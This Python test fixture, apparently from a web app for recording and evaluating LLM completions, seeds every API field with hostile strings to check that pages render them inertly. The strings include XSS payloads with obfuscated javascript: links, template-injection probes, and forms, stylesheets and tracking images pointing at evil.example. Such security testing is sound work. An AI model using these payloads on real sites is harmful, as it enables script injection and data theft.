"""What a hostile caller, model or reviewer writes, in every place that a page may show."""

from __future__ import annotations

from typing import Any, NamedTuple

from tests.processes import Server

RUN = "window.pwned=1"
"""What no page may run."""

TEXTS = {
    "script": f"<script>{RUN}</script></textarea></title></style>--><script>{RUN}</script>",
    "handlers": f'"><img src=x onerror="{RUN}"><svg/onload={RUN}><body onload={RUN}>',
    "quotes": f"' onmouseover='{RUN}' x='\" onfocus=\"{RUN}\" autofocus=\"",
    "links": f"[click](javascript:{RUN}) [data](data:text/html,<script>{RUN}</script>) "
    f"<a href='javascript:{RUN}'>x</a> <javascript:{RUN}> [v](vbscript:{RUN}) "
    f"[t](java\tscript:{RUN}) [e](&#106;avascript:{RUN}) [u](JaVaScRiPt:{RUN})",
    "images": f"![x](javascript:{RUN}) ![t](https://evil.example/track.gif) "
    f"![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)",
    "svg": f'<svg><script>{RUN}</script><foreignObject><iframe srcdoc="<script>parent.pwned=1'
    f'</script>"></iframe></foreignObject></svg><math><mtext><script>{RUN}</script></mtext></math>',
    "css": "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>"
    "<p style='position:fixed;inset:0;background:url(//evil.example/x)'>over all</p>",
    "forms": "<form action=//evil.example><input name=key></form><meta http-equiv=refresh "
    "content='0;url=//evil.example'><base href=//evil.example>"
    "<iframe src=//evil.example></iframe>",
    "htmx": f'<div hx-get="//evil.example" hx-trigger="load" '
    f'hx-on:load="{RUN}" data-hx-get="/">x</div>'
    f"<p data-copies=main data-opens=palette data-sends-itself>x</p>",
    "templates": "{{ 8191 * 131071 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}"
    "{% endfor %} ${8191*131071} #{8191*131071}",
    "bidi": "\u202eevil\u202c \u2066a\u2069 أريد استرداد \u200f\u200e\ufeff\u2028\u2029",
    "control": "\0\x07\x08\x1b[31mred\x1b[0m\x1b]8;;javascript:x\x07link\x1b]8;;\x07"
    "\r\n\x7f\x9b31m",
    "surrogate": "\ud83d lone \udc00",
    "markdown": "# h\n\n" + "> " * 200 + "deep\n\n" + "- " * 200 + "x\n\n" + "[" * 500 + "\n\n"
    + "*" * 500 + "\n\n|a|b|\n|-|-|\n|<script>|`</code><script>`|\n\n```html\n</pre></code>"
    f"<script>{RUN}</script>\n```\n\n[x]: javascript:{RUN}\n[x]\n\n&lt;script&gt; &#60;script&#62;",
    "huge": "W" * 20_000,
    "zalgo": "Z" + "\u0301\u0322\u0359" * 300,
    "empty": "",
}  # fmt: skip


class Hostile(NamedTuple):
    """Ids of what was recorded, by what they are in an address."""

    completions: list[str]
    session: str
    tasks: list[str]
    run: str
    """An eval of them."""
    prompt: str
    """A named prompt, whose versions are the texts of their system messages."""
    watch: str
    """A watch of drift. Its target is one that the settings know, so it is not hostile."""
    judge: str


def record_hostile(server: Server) -> Hostile:
    """Record every text in every place, of completions, tasks, feedback, keys and organizations."""
    session = server.send("POST", "/api/v1/sessions").json["session"]["id"]
    completions = [_record(server, text, session=session) for text in TEXTS.values()]
    tasks = [_create_task(server, text, completions) for text in TEXTS.values() if text]
    for text in TEXTS.values():
        server.send(
            "POST", "/v1/organization/admin_api_keys", {"name": text[:150], "scopes": ["read"]}
        )
        server.send("POST", "/api/v1/organizations", {"slug": f"o{len(text)}", "name": text[:150]})
    prompt = _name_prompts(server, completions)
    judge, watch = _create_judge(server, tasks[0]), _watch(server)
    return Hostile(completions, session, tasks, _run_eval(server), prompt, watch, judge)


def _create_judge(server: Server, task: str) -> str:
    """A judge whose model is named badly, with a run that finds nobody to ask."""
    name = f"judge <script>{RUN}</script>"
    body = {"task": task, "model": f"local/<img src=x onerror={RUN}>", "name": name}
    made = server.send("POST", "/api/v1/judges", body)
    assert made.status == 200, made.body
    id: str = made.json["id"]
    server.send("POST", f"/api/v1/judges/{id}/runs", {"filter": f'tag = "<b>{RUN}"'})
    return id


def _record(server: Server, text: str, *, session: str) -> str:
    token = {"token": text[:300], "logprob": -3.5, "bytes": None, "top_logprobs": []}
    alternatives = [{"token": text[:100] + "?", "logprob": -0.1, "bytes": [255, 0]}]
    call = {"id": text[:50], "type": "function", "function": {"name": text[:60], "arguments": text}}
    request: dict[str, Any] = {
        "model": text[:100] or "m",
        "messages": [
            {"role": "system", "content": text},
            {"role": "user", "name": text[:60], "content": [
                {"type": "text", "text": text},
                {"type": "image_url", "image_url": {"url": f"javascript:{RUN}"}},
                {"type": "image_url", "image_url": {"url": "https://evil.example/track.gif"}},
            ]},
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": text[:50], "content": text},
        ],
        "tools": [{"type": "function", "function": {"name": text[:60], "description": text}}],
        "user": text[:100],
        "logprobs": True,
    }  # fmt: skip
    choice = {
        "index": 0,
        "finish_reason": "stop",
        "message": {
            "role": "assistant",
            "content": text,
            "refusal": None,
            "reasoning_content": text,
            "tool_calls": [call],
        },
        "logprobs": {"content": [{**token, "top_logprobs": alternatives}] * 3, "refusal": None},
    }
    response = {
        "id": text[:100],
        "object": "chat.completion",
        "created": 1,
        "model": text[:100],
        "system_fingerprint": text[:100],
        "choices": [choice, {**choice, "index": 1}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 3, "total_tokens": 4},
    }
    body = {
        "organization_id": "default",
        "kind": "chat",
        "status": "finished",
        "tags": [text[:60], "hostile"] if text.strip() else ["hostile"],
        "request": request,
        "response": response,
        "session_id": session,
    }
    made = server.send("POST", "/api/v1/completions", body)
    if made.status != 200:
        # Some texts are refused as tags. What is refused is not shown.
        made = server.send("POST", "/api/v1/completions", {**body, "tags": ["hostile"]})
    assert made.status == 200, made.body
    id: str = made.json["id"]
    return id


def _name_prompts(server: Server, completions: list[str]) -> str:
    for id in completions:
        # A text may have no words, or the same ones as another.
        body = {"name": "hostile", "completion_id": id}
        assert server.send("POST", "/api/v1/named_prompts", body).status in (200, 400, 409)
    return "hostile"


def _watch(server: Server) -> str:
    made = server.send("POST", "/api/v1/drift", {"target": "local/briggs-tiny"})
    assert made.status == 200, made.body
    id: str = made.json["id"]
    return id


def _run_eval(server: Server) -> str:
    """An eval whose samples, references and scorers are hostile, of what is on record."""
    samples = [
        {"id": text[:200], "input": text, "target": text, "metadata": {text[:60]: text}}
        for text in TEXTS.values()
        if text
    ]
    made = server.send("POST", "/api/v1/datasets", {"name": "hostile", "samples": samples})
    assert made.status == 200, made.body
    scorers = [{"kind": "external", "name": text[:100]} for text in TEXTS.values() if text][:15]
    run = {"dataset": "hostile", "targets": ["recorded"], "scorers": scorers}
    made = server.send("POST", "/api/v1/eval_runs", run)
    assert made.status == 200, made.body
    id: str = made.json["id"]
    server.send("GET", f"/api/v1/eval_runs/{id}/progress")
    return id


def _create_task(server: Server, text: str, completions: list[str]) -> str:
    schema = {
        "type": "object",
        "title": text,
        "description": text,
        "properties": {
            "note": {"type": "string", "title": text, "description": text},
            "choice": {"enum": [text, "other"], "title": text},
            text[:60]: {"type": "boolean", "description": text},
        },
    }
    task = {
        "name": text[:400],
        "instruction": text,
        "json_schema": schema,
        "completion_tags_selector": ["hostile"],
        "reviewers_wanted": 2,
    }
    made = server.send("POST", "/api/v1/feedback_task", task)
    assert made.status == 200, made.body
    id: str = made.json["id"]
    for reviewer in ("ann", text[:100]):
        feedback = {
            "task_id": id,
            "json_values": {"note": text},
            "completion_ids": completions[:1],
            "reviewer": reviewer,
            "comment": text,
        }
        server.send("POST", "/api/v1/feedback", feedback)
    return id
